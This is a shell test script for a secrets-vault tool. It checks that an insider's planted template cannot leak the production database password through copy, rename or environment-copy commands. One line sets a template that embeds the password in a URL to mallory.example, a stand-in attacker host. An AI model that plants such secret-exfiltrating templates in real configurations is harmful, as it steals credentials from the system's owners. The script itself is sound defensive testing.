#!/bin/sh
# Promise 33: A template goes to another environment only after a person has read its text.
# Mallory can write dev but not open prod. He plants a template that puts prod's database password
# into a variable that the program sends to him, and waits for alice to copy the secret to prod.
. "$(dirname "$0")/people.sh"

people alice mallory
as alice vault init -e dev,prod
as alice vault grant mallory "$(key_of mallory)" -e dev
given as alice vault create db PASSWORD=dev-password-1 -e dev
given as alice vault create db PASSWORD=prod-password-1 -e prod
given as mallory vault set --template 'web/REPORT_URL=https://mallory.example/?{{ db/PASSWORD | url }}' web/PORT=80 -e dev

attack 1 template terminal as alice setsid -w "$BIN" copy web --to prod --yes
attack 1 template terminal as alice setsid -w "$BIN" copy web/REPORT_URL --to prod --yes
attack 1 template terminal as alice setsid -w "$BIN" rename web --to prod --yes
attack 1 template terminal as alice setsid -w "$BIN" env copy dev staging --yes
run as alice vault list web -e prod
is 'nothing of it is in prod' "$status" 4
attack 2 '' '' as mallory vault set --template 'web/X={{ prod/db/PASSWORD }}' -e dev

run as alice vault env list
is 'and there is no copy of dev' "$(grep -c staging "$STDOUT")" 0

# A value that only looks like a template stays what it is, wherever it comes from.
given as mallory vault set 'web/PORT={{ db/PASSWORD }}' -e dev
given as alice vault copy web/PORT web/PORT --to prod --yes
run as alice vault get web/PORT -e prod
is 'braces make no template' "$(cat "$STDOUT")" '{{ db/PASSWORD }}'

# The honest case.
given as alice vault copy db copied --to prod --yes
run as alice vault get copied/PASSWORD -e prod
is 'values without a template are copied' "$(cat "$STDOUT")" dev-password-1

done_testing
